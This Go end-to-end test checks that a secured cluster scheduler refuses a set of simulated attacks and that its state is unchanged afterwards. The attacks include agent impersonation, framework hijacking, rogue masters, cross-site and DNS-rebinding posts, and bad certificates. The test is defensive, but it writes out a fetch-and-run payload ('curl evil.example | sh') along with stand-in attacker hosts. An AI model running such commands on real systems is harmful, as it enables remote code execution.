//go:build linux

package e2e

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"go.etcd.io/etcd/api/v3/v3rpc/rpctypes"

	"github.com/gleaner/gleaner/examples/demo/cluster"
	"github.com/gleaner/gleaner/examples/internal/agent"
	"github.com/gleaner/gleaner/examples/internal/api"
	"github.com/gleaner/gleaner/examples/internal/auth"
	"github.com/gleaner/gleaner/examples/internal/auth/authtest"
	"github.com/gleaner/gleaner/internal/pki"
	"github.com/gleaner/gleaner/internal/pki/pkitest"
	"github.com/gleaner/gleaner/internal/testenv"
)

// TestAttacksAreRefusedAndChangeNothing runs a secured cluster (TLS
// everywhere, the master's ACL, etcd with its authentication and
// per-component roles) with a framework running tasks on every agent, and
// tries each attack the insecure cluster was open to: an agent acting as
// another, a framework hijacked, killed or torn down by another principal,
// a rogue master named through etcd, a web page posting apps to the
// framework, a task lending its machine through /reservation, expired and
// foreign certificates. Each is refused with its status, and afterwards the
// same tasks run, the framework is still subscribed and the reservations
// are unchanged. Certificates rotate without a restart.
func TestAttacksAreRefusedAndChangeNothing(t *testing.T) {
	c := startCluster(t, cluster.Config{})
	submit(t, c, `{"id": "/victim", "cmd": "sleep 100000", "cpus": 0.05, "mem": 16, "disk": 8,
		"instances": 3, "constraints": [["rack", "GROUP_BY", "3"]]}`)
	admin := c.Client()
	st := waitState(t, admin, 60*time.Second, "3 running instances of /victim", func(st api.State) bool {
		return len(running(st, "/victim")) == 3 && len(st.Frameworks) == 1 && st.Frameworks[0].Connected
	})
	before := taskIDs(running(st, "/victim"))
	fw := st.Frameworks[0]
	if !regexp.MustCompile(`^fw-[0-9a-f]{16}$`).MatchString(fw.ID) {
		t.Errorf("framework ID %q: want fw- and 16 random hex digits", fw.ID)
	}
	victim, _ := taskView(st, before[0])
	reservations := readReservations(t, c)
	masters := c.Masters()
	as := func(principal string) api.ClientOption {
		return api.WithHTTPClient(authtest.Client(t, authtest.Principal(t, principal), auth.KindMaster))
	}
	ctx := t.Context()

	t.Run("an agent acts only as the agent in its certificate", func(t *testing.T) {
		// A machine with an agent's certificate of the cluster's CA, but
		// not agent-1's (nor the victim task's agent's).
		other := api.NewAgentClient(masters, as("agent/intruder"))
		_, err := other.Register(ctx, api.RegisterAgent{AgentID: "agent-1", Hostname: "evil", Reservation: "cpus:64;mem:65536"})
		requireStatus(t, err, api.ErrForbidden, `may not act as agent "agent-1"`)
		_, err = other.Report(ctx, api.AgentReport{AgentID: victim.AgentID, Reservation: "cpus:1",
			Tasks: []api.TaskStatus{{TaskID: victim.TaskID, State: api.TaskFinished}}})
		requireStatus(t, err, api.ErrForbidden, "an agent acts only as the agent ID in its certificate")
		_, err = other.Commands(ctx, "agent-1", 0)
		requireStatus(t, err, api.ErrForbidden, `may not act as agent "agent-1"`)
		_, err = api.NewAgentClient(masters, as("framework/marathon")).Register(ctx, api.RegisterAgent{AgentID: "agent-1", Hostname: "evil", Reservation: "cpus:1"})
		requireStatus(t, err, api.ErrForbidden, `principal framework/marathon may not act as agent`)
		_, err = api.NewAgentClient(masters, api.WithHTTPClient(authtest.Anonymous(t))).Register(ctx, api.RegisterAgent{AgentID: "agent-1", Hostname: "evil", Reservation: "cpus:1"})
		requireStatus(t, err, api.ErrUnauthenticated, "present a client certificate")
	})

	t.Run("a framework belongs to its principal", func(t *testing.T) {
		evil := api.NewSchedulerClient(masters, as("framework/evil"))
		_, err := evil.Subscribe(ctx, api.Subscribe{FrameworkID: fw.ID, Name: "marathon"})
		requireStatus(t, err, api.ErrForbidden, "belongs to principal framework/marathon")
		_, err = evil.Subscribe(ctx, api.Subscribe{Name: "evil"})
		requireStatus(t, err, api.ErrForbidden, `no grant register_frameworks for role "*"`)
		err = evil.Accept(ctx, api.Accept{FrameworkID: fw.ID, OfferIDs: []string{"o1"}})
		requireStatus(t, err, api.ErrForbidden, "belongs to principal framework/marathon")
		err = evil.Kill(ctx, api.Kill{FrameworkID: fw.ID, TaskID: victim.TaskID})
		requireStatus(t, err, api.ErrForbidden, "no grant kill_tasks of frameworks of framework/marathon")
		err = evil.Teardown(ctx, fw.ID)
		requireStatus(t, err, api.ErrForbidden, "no grant teardown_frameworks")
		// A principal that may read the state may not kill.
		err = api.NewSchedulerClient(masters, as("operator/dashboard")).Kill(ctx, api.Kill{FrameworkID: fw.ID, TaskID: victim.TaskID})
		requireStatus(t, err, api.ErrForbidden, "principal operator/dashboard has no grant kill_tasks")
		// The framework itself may subscribe only with its role and weight grant.
		_, err = api.NewSchedulerClient(masters, as("framework/marathon")).Subscribe(ctx, api.Subscribe{Name: "greedy", Weight: 100})
		requireStatus(t, err, api.ErrForbidden, "no grant register_frameworks for role \"*\" at weight 100")
		_, err = api.NewClient(masters, as("framework/evil")).State(ctx)
		requireStatus(t, err, api.ErrForbidden, "no grant get_state")
	})

	t.Run("etcd keeps each component to its keys", func(t *testing.T) {
		agentEtcd, err := auth.NewEtcdClient([]string{c.EtcdEndpoint()}, authtest.Agent(t, "agent-1"))
		if err != nil {
			t.Fatal(err)
		}
		defer agentEtcd.Close()
		for _, key := range []string{c.Prefix() + "/master/election/rogue", c.Prefix() + "/agents/agent-2/attributes/rack",
			c.Prefix() + "/master/frameworks/" + fw.ID} {
			if _, err := agentEtcd.Put(ctx, key, "https://evil.example"); !errors.Is(err, rpctypes.ErrPermissionDenied) {
				t.Errorf("agent-1 writing %s: %v, want permission denied", key, err)
			}
		}
		fwEtcd, err := auth.NewEtcdClient([]string{c.EtcdEndpoint()}, authtest.Framework(t, "marathon"))
		if err != nil {
			t.Fatal(err)
		}
		defer fwEtcd.Close()
		if _, err := fwEtcd.Get(ctx, c.Prefix()+"/master/election/"); err == nil {
			t.Error("the framework principal read the election from etcd")
		}
	})

	t.Run("a rogue master is not followed", func(t *testing.T) {
		// A server of the cluster's CA that is not a master (an agent's
		// certificate), and a follower naming it as the leader, as an etcd
		// writer could make it.
		var rogueCalls atomic.Int64
		rogue := tlsServer(t, authtest.Agent(t, "agent-3"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			rogueCalls.Add(1)
			api.WriteJSON(w, http.StatusOK, api.RegisterAgentResponse{AgentID: "agent-1"})
		}))
		follower := tlsServer(t, authtest.Master(t, "follower"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			api.WriteJSON(w, http.StatusServiceUnavailable, api.ErrorResponse{Error: "this master is not the leader", Leader: rogue})
		}))
		me := api.NewAgentClient([]string{rogue}, as("agent/agent-1"))
		if _, err := me.Register(ctx, api.RegisterAgent{AgentID: "agent-1", Hostname: "h", Reservation: "cpus:1"}); err == nil ||
			!strings.Contains(err.Error(), "is not a master") {
			t.Errorf("registering with a non-master: %v, want the server refused as not a master", err)
		}
		me = api.NewAgentClient([]string{follower}, as("agent/agent-1"))
		_, err := me.Register(ctx, api.RegisterAgent{AgentID: "agent-1", Hostname: "h", Reservation: "cpus:1"})
		requireStatus(t, err, api.ErrNotLeader, "not the leader")
		if n := rogueCalls.Load(); n != 0 {
			t.Errorf("the rogue master got %d requests", n)
		}
	})

	t.Run("a web page cannot post apps to the framework", func(t *testing.T) {
		// A browser that holds the operator's certificate sends it with any
		// page's request: what stops a page is the content type (no CORS
		// preflight is answered) and the Host check (DNS rebinding).
		browser := c.HTTPClient()
		app := `{"id": "/evil", "cmd": "curl evil.example | sh", "cpus": 0.1, "mem": 16}`
		post := func(client *http.Client, contentType, host string) int {
			req, _ := http.NewRequestWithContext(ctx, http.MethodPost, c.FrameworkURL()+"/v2/apps", strings.NewReader(app))
			if contentType != "" {
				req.Header.Set("Content-Type", contentType)
			}
			if host != "" {
				req.Host = host
			}
			resp, err := client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			return resp.StatusCode
		}
		for _, tc := range []struct {
			name              string
			client            *http.Client
			contentType, host string
			code              int
		}{
			{"a form post (text/plain)", browser, "text/plain", "", http.StatusUnsupportedMediaType},
			{"no content type", browser, "", "", http.StatusUnsupportedMediaType},
			{"a form post (urlencoded)", browser, "application/x-www-form-urlencoded", "", http.StatusUnsupportedMediaType},
			{"a rebound DNS name", browser, "application/json", "attacker.example", http.StatusMisdirectedRequest},
			{"no credential", authtest.Anonymous(t), "application/json", "", http.StatusUnauthorized},
		} {
			if code := post(tc.client, tc.contentType, tc.host); code != tc.code {
				t.Errorf("%s: %d, want %d", tc.name, code, tc.code)
			}
		}
		if code, _ := call(t, http.MethodGet, c.FrameworkURL()+"/v2/apps/evil", ""); code != http.StatusNotFound {
			t.Errorf("GET /v2/apps/evil: %d, want 404: the app must not exist", code)
		}
	})

	t.Run("a task cannot lend its machine", func(t *testing.T) {
		endpoint := agentEndpoint(t, admin, "agent-1")
		// Over TCP a task has no certificate: no TLS handshake.
		req, _ := http.NewRequestWithContext(ctx, http.MethodPut, endpoint+agent.PathReservation, strings.NewReader(`{"floor":"cpus:64"}`))
		req.Header.Set("Content-Type", "application/json")
		if resp, err := authtest.Anonymous(t).Do(req); err == nil {
			resp.Body.Close()
			t.Errorf("PUT /reservation over TCP without a certificate: %s, want the handshake refused", resp.Status)
		}
		// Even an operator's certificate does not reach it there.
		req, _ = http.NewRequestWithContext(ctx, http.MethodPut, endpoint+agent.PathReservation, strings.NewReader(`{"floor":"cpus:64"}`))
		req.Header.Set("Content-Type", "application/json")
		resp, err := authtest.Client(t, cluster.Admin, auth.KindAgent).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("PUT /reservation over TCP as an operator: %s, want 404 (only the operator socket serves it)", resp.Status)
		}
		putAsAnotherUser(t, c.AgentSocket("agent-1"))
	})

	t.Run("expired and foreign certificates are refused", func(t *testing.T) {
		req, _ := auth.CertRequest(cluster.Admin, nil, time.Hour)
		req.NotBefore = time.Now().Add(-2 * time.Hour)
		expired := pkitest.Write(t, pkitest.Issue(t, req))
		other, err := pki.NewCA("someone else's CA", time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		req, _ = auth.CertRequest(cluster.Admin, nil, time.Hour)
		pair, err := other.Issue(req)
		if err != nil {
			t.Fatal(err)
		}
		foreign := pkitest.WriteWith(t, other, pair)
		foreign.CA = expired.CA // it trusts the cluster's CA; its certificate is of another
		// An expired certificate fails the handshake. One of another CA is
		// not even sent (the server names the CAs it takes), so the
		// request comes without a credential: 401.
		for name, files := range map[string]pki.Files{"expired": expired, "of another CA": foreign} {
			id, err := auth.LoadTLS(files)
			if err != nil {
				t.Fatal(err)
			}
			client := id.HTTPClient()
			for _, url := range []string{masters[0] + api.PathState, c.FrameworkURL() + "/v2/apps"} {
				if resp, err := client.Get(url); err == nil {
					resp.Body.Close()
					if resp.StatusCode != http.StatusUnauthorized || name == "expired" {
						t.Errorf("a certificate %s: GET %s answered %s, want it refused", name, url, resp.Status)
					}
				}
			}
		}
	})

	t.Run("the master's certificate rotates without a restart", func(t *testing.T) {
		files, _ := c.Files(cluster.Master)
		old := servedSerial(t, masters[0], files.CA)
		pair, err := auth.Issue(pkitest.CA(t), cluster.Master, []string{"127.0.0.1", "::1", "localhost"}, time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := auth.WriteIdentity(filepath.Dir(files.Cert), "master-master-1", pkitest.CA(t), pair); err != nil {
			t.Fatal(err)
		}
		if got := servedSerial(t, masters[0], files.CA); got == old || got != pair.Cert.SerialNumber.String() {
			t.Fatalf("the master serves serial %s after the rotation (before %s), want %s", got, old, pair.Cert.SerialNumber)
		}
		c.HTTPClient().CloseIdleConnections()
		if _, err := admin.State(ctx); err != nil {
			t.Fatalf("state over a new connection after the rotation: %v", err)
		}
	})

	// Nothing changed: the same tasks run, the framework is still
	// subscribed, the reservations are the same.
	st = requireSameTasks(t, admin, "/victim", before, "the attacks")
	if len(st.Frameworks) != 1 || st.Frameworks[0].ID != fw.ID || !st.Frameworks[0].Connected {
		t.Errorf("frameworks after the attacks: %+v, want %s still connected", st.Frameworks, fw.ID)
	}
	if got := readReservations(t, c); fmt.Sprint(got) != fmt.Sprint(reservations) {
		t.Errorf("operator bounds after the attacks: %v, before %v", got, reservations)
	}
}

// requireStatus checks that err is the master's refusal matching target
// with a message containing says.
func requireStatus(t *testing.T, err, target error, says string) {
	t.Helper()
	var se *api.StatusError
	if !errors.As(err, &se) || !errors.Is(err, target) || !strings.Contains(se.Message, says) {
		t.Errorf("error %v, want %v saying %q", err, target, says)
	}
}

// readReservations returns every agent's operator bounds (cap and floor),
// read on its operator socket.
func readReservations(t *testing.T, c *cluster.Cluster) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, spec := range cluster.DefaultAgents() {
		resp, err := agent.OperatorClient(c.AgentSocket(spec.ID)).Get(agent.OperatorURL + agent.PathReservation)
		if err != nil {
			t.Fatal(err)
		}
		var info agent.ReservationInfo
		err = json.NewDecoder(resp.Body).Decode(&info)
		resp.Body.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[spec.ID] = "cap " + info.Cap + " floor " + info.Floor
	}
	return out
}

// agentEndpoint returns the agent's HTTPS URL from the master's state.
func agentEndpoint(t *testing.T, c *api.Client, id string) string {
	t.Helper()
	st, err := c.State(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range st.Agents {
		if a.ID == id && strings.HasPrefix(a.Endpoint, "https://") {
			return a.Endpoint
		}
	}
	t.Fatalf("no HTTPS endpoint of agent %s in %+v", id, st.Agents)
	return ""
}

// tlsServer serves h over TLS with id and returns its URL.
func tlsServer(t *testing.T, id *auth.TLS, h http.Handler) string {
	t.Helper()
	srv := httptest.NewUnstartedServer(h)
	srv.TLS = id.ServerConfig(tls.VerifyClientCertIfGiven)
	srv.StartTLS()
	t.Cleanup(srv.Close)
	return srv.URL
}

// servedSerial dials the master and returns the serial number of the
// certificate it presents now.
func servedSerial(t *testing.T, masterURL, caFile string) string {
	t.Helper()
	ca, err := auth.LoadTLS(pki.Files{CA: caFile})
	if err != nil {
		t.Fatal(err)
	}
	cfg := ca.ClientConfig(auth.KindMaster)
	cfg.ServerName = "127.0.0.1"
	conn, err := tls.Dial("tcp", strings.TrimPrefix(masterURL, "https://"), cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	return conn.ConnectionState().PeerCertificates[0].SerialNumber.String()
}

// putAsAnotherUser tries PUT /reservation on the agent's operator socket
// from a process of another user (nobody), as a task runs: first as the
// agent left it (its directory is 0700), then with the directory and the
// socket opened to everyone, which the agent's check of the peer's
// credentials still refuses.
func putAsAnotherUser(t *testing.T, socket string) {
	t.Helper()
	testenv.RequireRoot(t) // to run a process as nobody
	// The test binary sits in a directory only root may enter: copy it.
	bin := filepath.Join(t.TempDir(), "e2e.test")
	copyExecutable(t, os.Args[0], bin)
	// Let nobody walk down to the agent's operator directory, as a task on
	// a host without isolation could; the directory itself stays 0700.
	opDir := filepath.Dir(socket)
	for d := filepath.Dir(opDir); d != "/" && d != "."; d = filepath.Dir(d) {
		fi, err := os.Stat(d)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm()&0o005 != 0o005 {
			if err := os.Chmod(d, fi.Mode().Perm()|0o005); err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { os.Chmod(d, fi.Mode().Perm()) })
		}
	}
	for _, d := range []string{filepath.Dir(bin), filepath.Dir(filepath.Dir(bin))} {
		os.Chmod(d, 0o755)
	}
	try := func() (string, error) {
		cmd := exec.Command(bin)
		cmd.Env = append(os.Environ(), roleEnv+"=reservation", "GLEANER_E2E_SOCKET="+socket)
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	if out, err := try(); err == nil || !strings.Contains(out, "permission denied") {
		t.Errorf("PUT /reservation on the socket as nobody: %v %s, want permission denied", err, out)
	}
	// Open the directory and the socket to everyone: the agent still takes
	// connections only from root and its own user.
	if err := os.Chmod(opDir, 0o755); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(opDir, 0o700)
	if err := os.Chmod(socket, 0o666); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(socket, 0o600)
	if out, err := try(); err == nil || strings.Contains(out, "200 OK") {
		t.Errorf("PUT /reservation on an open socket as nobody: %v %s, want the connection refused", err, out)
	}
}

// putReservation is the "reservation" role: a process that tries to lend
// the whole machine through the operator socket GLEANER_E2E_SOCKET.
func putReservation() error {
	req, err := http.NewRequestWithContext(context.Background(), http.MethodPut, agent.OperatorURL+agent.PathReservation,
		strings.NewReader(`{"floor":"cpus:64;mem:65536"}`))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", api.ContentTypeJSON)
	resp, err := agent.OperatorClient(os.Getenv("GLEANER_E2E_SOCKET")).Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	fmt.Println(resp.Status)
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("PUT /reservation: %s", resp.Status)
	}
	return nil
}

func copyExecutable(t *testing.T, from, to string) {
	t.Helper()
	data, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, data, 0o755); err != nil {
		t.Fatal(err)
	}
}
